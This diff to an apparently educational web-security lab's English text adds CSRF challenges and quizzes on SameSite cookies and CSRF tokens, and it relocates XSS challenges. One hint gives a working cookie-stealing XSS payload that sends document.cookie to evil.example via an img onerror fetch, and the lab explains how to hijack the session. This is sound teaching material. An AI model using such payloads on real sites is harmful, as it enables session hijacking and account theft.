@@ -53,6 +53,51 @@ export const activitiesEn = {
     },
   },
   challenges: {
+    'forged-form-fails': {
+      title: 'Make the forged form fail',
+      goal: 'Mina’s cookie is SameSite=None, so the hidden form on evil.example fills her cart. Make that form arrive without her session cookie, without touching the shop’s code (leave csrfSynchronisedProtection off).',
+      hints: {
+        '0': 'Which attribute of a cookie decides whether other sites’ requests carry it? The express-session options are under the guest book.',
+        '1': 'Set cookie.sameSite to strict or lax. express-session keeps each session’s cookie settings, so only a new session gets them: log in again as Mina.',
+        '2': 'Then open evil.example (Add a visitor menu) and click Claim. The wire should say the cookie was not sent.',
+      },
+      solved:
+        'The cookie stayed home: a Strict or Lax cookie never rides a POST another site started, so the shop saw a stranger and Mina’s cart was left alone. Chrome’s two-minute Lax+POST exception covers only cookies without SameSite: one more reason to set it.',
+      nudges: {
+        'old-cookie':
+          'The option changed, but the cookie still went: Mina’s session keeps the settings it was made with (look at its Set-Cookie). Log in again for a new session.',
+        code: 'That changes the shop’s code. Turn csrfSynchronisedProtection off and use the cookie’s attribute.',
+      },
+    },
+    'links-stay': {
+      title: 'Keep links working, stop the form',
+      goal: 'A link on evil.example to Mina’s page should still find her logged in (200), but the hidden form must arrive without her session cookie.',
+      hints: {
+        '0': 'The link is a top-level GET; the form is a POST. One SameSite value tells them apart.',
+        '1': 'Strict stops both. Lax lets a top-level GET from another site carry the cookie, and nothing else.',
+        '2': 'Set cookie.sameSite to lax and log in again. Then on evil.example follow the link, open evil.example again and click Claim.',
+      },
+      solved:
+        'Lax: the link came with the cookie and showed Mina’s page, the form came without it. That balance is why browsers made Lax the default.',
+      nudges: {
+        strict:
+          'With Strict the link comes without the cookie too (401): Mina would have to log in again whenever she arrives from another site.',
+      },
+    },
+    'token-stops': {
+      title: 'Stop the attack with a token',
+      goal: 'Keep the cookie at SameSite=None (say a widget on another site needs it). Make the forged form from evil.example get 403 while it still carries Mina’s cookie.',
+      hints: {
+        '0': 'The shop’s own forms could carry something evil.example cannot know.',
+        '1': 'Turn on csrfSynchronisedProtection under the guest book, open My page (it now carries a token), then click Claim on evil.example.',
+      },
+      solved:
+        'The cookie went and the session was found, and still 403: the form had no _csrf token. Only the shop’s pages carry it, and evil.example cannot read them.',
+      nudges: {
+        samesite:
+          'SameSite is no longer none. This time keep it at none and stop the form in the shop’s code.',
+      },
+    },
     'forget-without-logout': {
       title: 'Forgotten without logging out',
       goal: 'Mina is logged in on Chrome. Make the server forget her session without pressing Log out, then show it: My page must answer 401.',
@@ -421,6 +466,57 @@ export const activitiesEn = {
           'That request made no new row: Safari sent back the cookie it got, so the server recognised it.',
       },
     },
+    'xss-steal-session': {
+      title: 'Steal Mina’s session',
+      goal: 'You are the visitor in Firefox. Write a review that sends Mina’s cookie to evil.example, let Mina open the reviews (her Chrome tab), then use her session from evil.example’s log to open her My page in Firefox.',
+      hints: {
+        '0': 'The review page writes your text into its HTML as it is. An image that fails to load runs its onerror attribute.',
+        '1': 'Try: <img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
+        '2': 'Then open Chrome’s tab and press Reviews. Back in Firefox, press “Use connect.sid in Firefox” on Mina’s line in evil.example’s log, then My page.',
+      },
+      solved:
+        'Mina’s browser ran your markup as part of the shop’s page, read her cookie and sent it away; with it, Firefox is Mina. No password, no server bug in the session code: one unescaped review and a cookie scripts could read.',
+      nudges: {
+        'own-cookie':
+          'That cookie came from your own browser (it also showed the page). Use the one evil.example received from Mina’s Chrome.',
+        'wait-for-mina':
+          'The trap is set. Now Mina has to open the review page: switch to her Chrome tab and press Reviews.',
+        'not-understood':
+          'Your review is on the page, but nothing in it sends document.cookie to an address. Use onerror on an image with a src, and fetch() to https://evil.example/.',
+      },
+    },
+    'xss-httponly-stops-theft': {
+      title: 'Stop the theft, keep the code',
+      goal: 'Without changing the shop’s code (leave the review page unescaped), make Mina open the reviews while logged in without her session cookie reaching evil.example.',
+      hints: {
+        '0': 'document.cookie cannot see a cookie marked HttpOnly. Which option sets it?',
+        '1': 'Under the guest book, turn on cookie.httpOnly. The option applies to cookies the server sets from then on.',
+        '2': 'Mina’s cookie was set before: log her in again in Chrome (mina / sesame), then open Reviews.',
+      },
+      solved:
+        'The script still ran and still called evil.example, but document.cookie no longer held connect.sid. HttpOnly protects the session cookie, not the page: the injected script could still act as Mina on it.',
+      nudges: {
+        'code-changed':
+          'Escaping changes the shop’s code (that is the next challenge). This time turn it off again and protect the cookie instead.',
+        'old-cookie':
+          'HttpOnly is on, but Mina still holds the cookie she got before: her session keeps it. Log her in again to get a new one.',
+        'logged-out': 'Mina is not logged in: log her in again, then open the reviews.',
+      },
+    },
+    'xss-escape-output': {
+      title: 'Stop the injection itself',
+      goal: 'Make the shop write reviews into its page as text, so that Mina sees the planted review as the characters that were typed and nothing in the page runs.',
+      hints: {
+        '0': 'The fault is where the shop writes the review into its HTML.',
+        '1': 'Under the guest book, turn on “Escape reviews on the page”, then open Reviews in Mina’s Chrome.',
+      },
+      solved:
+        'Escaped, the review’s < arrives as &lt;: the browser shows it and runs nothing. Escaping at output stops the injection for every visitor, logged in or not, whatever the cookie’s flags.',
+      nudges: {
+        'still-runs':
+          'HttpOnly keeps the cookie safe, but the review still runs on Mina’s page. Stop it where the shop writes the review.',
+      },
+    },
     'secure-cafe-link': {
       title: 'Never over http',
       goal: 'Mina’s session cookie must never travel over the café’s http link. Set the server so that the link carries no session cookie while Mina stays logged in over https, then open the café link to show it.',
@@ -492,59 +588,60 @@ export const activitiesEn = {
           'Too long: 30 minutes without a request, and the login session itself expired. Shorter pauses keep it alive.',
       },
     },
-    'xss-steal-session': {
-      title: 'Steal Mina’s session',
-      goal: 'You are the visitor in Firefox. Write a review that sends Mina’s cookie to evil.example, let Mina open the reviews (her Chrome tab), then use her session from evil.example’s log to open her My page in Firefox.',
-      hints: {
-        '0': 'The review page writes your text into its HTML as it is. An image that fails to load runs its onerror attribute.',
-        '1': 'Try: <img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
-        '2': 'Then open Chrome’s tab and press Reviews. Back in Firefox, press “Use connect.sid in Firefox” on Mina’s line in evil.example’s log, then My page.',
-      },
-      solved:
-        'Mina’s browser ran your markup as part of the shop’s page, read her cookie and sent it away; with it, Firefox is Mina. No password, no server bug in the session code: one unescaped review and a cookie scripts could read.',
-      nudges: {
-        'own-cookie':
-          'That cookie came from your own browser (it also showed the page). Use the one evil.example received from Mina’s Chrome.',
-        'wait-for-mina':
-          'The trap is set. Now Mina has to open the review page: switch to her Chrome tab and press Reviews.',
-        'not-understood':
-          'Your review is on the page, but nothing in it sends document.cookie to an address. Use onerror on an image with a src, and fetch() to https://evil.example/.',
-      },
-    },
-    'xss-httponly-stops-theft': {
-      title: 'Stop the theft, keep the code',
-      goal: 'Without changing the shop’s code (leave the review page unescaped), make Mina open the reviews while logged in without her session cookie reaching evil.example.',
-      hints: {
-        '0': 'document.cookie cannot see a cookie marked HttpOnly. Which option sets it?',
-        '1': 'Under the guest book, turn on cookie.httpOnly. The option applies to cookies the server sets from then on.',
-        '2': 'Mina’s cookie was set before: log her in again in Chrome (mina / sesame), then open Reviews.',
-      },
-      solved:
-        'The script still ran and still called evil.example, but document.cookie no longer held connect.sid. HttpOnly protects the session cookie, not the page: the injected script could still act as Mina on it.',
-      nudges: {
-        'code-changed':
-          'Escaping changes the shop’s code (that is the next challenge). This time turn it off again and protect the cookie instead.',
-        'old-cookie':
-          'HttpOnly is on, but Mina still holds the cookie she got before: her session keeps it. Log her in again to get a new one.',
-        'logged-out': 'Mina is not logged in: log her in again, then open the reviews.',
-      },
-    },
-    'xss-escape-output': {
-      title: 'Stop the injection itself',
-      goal: 'Make the shop write reviews into its page as text, so that Mina sees the planted review as the characters that were typed and nothing in the page runs.',
-      hints: {
-        '0': 'The fault is where the shop writes the review into its HTML.',
-        '1': 'Under the guest book, turn on “Escape reviews on the page”, then open Reviews in Mina’s Chrome.',
-      },
-      solved:
-        'Escaped, the review’s < arrives as &lt;: the browser shows it and runs nothing. Escaping at output stops the injection for every visitor, logged in or not, whatever the cookie’s flags.',
-      nudges: {
-        'still-runs':
-          'HttpOnly keeps the cookie safe, but the review still runs on Mina’s page. Stop it where the shop writes the review.',
-      },
-    },
   },
   quiz: {
+    'cross-site-what': {
+      prompt:
+        'A hidden form on evil.example added a gift card to Mina’s cart. What made that possible?',
+      options: {
+        forged: 'Her browser sent her session cookie with a request another site started',
+        stolen: 'evil.example read her session cookie',
+        guessed: 'evil.example guessed her session ID',
+        script: 'A script ran inside the shop’s page',
+      },
+      explain:
+        'In CSRF nothing is stolen: the other site makes Mina’s own browser send the request, and the browser adds her cookie as it would to any request to the shop.',
+    },
+    'cross-site-lax': {
+      prompt: 'Mina’s cookie is SameSite=Lax. Which request from evil.example carries it?',
+      options: {
+        link: 'Following a link to the shop (a top-level GET)',
+        form: 'A hidden form that POSTs to the shop',
+        image: 'An image whose address is on the shop',
+        none: 'None of them',
+      },
+      explain:
+        'Lax lets a cookie go with a request from another site only when it is a top-level navigation with a safe method such as GET.',
+    },
+    'cross-site-token-why': {
+      prompt: 'Why can the forged form not send the right CSRF token?',
+      options: {
+        'cannot-read': 'The token is only in the shop’s pages, and another site cannot read them',
+        encrypted: 'The token is encrypted',
+        cookie: 'The token is in an HttpOnly cookie',
+        'secret-url': 'The form’s address is secret',
+      },
+      explain:
+        'The browser sends the cookie for any site, but it does not let evil.example read the shop’s answers (the same-origin policy). A value found only in the shop’s pages cannot be forged.',
+    },
+    'cross-site-attack': {
+      prompt: 'Put the forgery in order.',
+      options: {
+        login: 'Mina logs in at the shop',
+        visit: 'She opens a page on evil.example',
+        submit: 'The page submits its hidden form to the shop',
+        cookie: 'Her browser adds her session cookie, if SameSite allows',
+        cart: 'The shop acts as Mina and changes her cart',
+      },
+      explain:
+        'Each step is ordinary browser behaviour. SameSite breaks the fourth, a CSRF token the fifth.',
+    },
+    'cross-site-strict-request': {
+      prompt:
+        'Mina’s cookie is SameSite=Strict. This is said to be the forged form’s request from evil.example. Which line is wrong?',
+      explain:
+        'A Strict cookie never goes with a request another site started, so there is no Cookie line: the shop sees a stranger.',
+    },
     'secure-eavesdropper': {
       prompt:
         'Mina opens http://shop.example/me on the café’s Wi-Fi, with a session cookie without Secure. What can another guest on the same Wi-Fi read?',
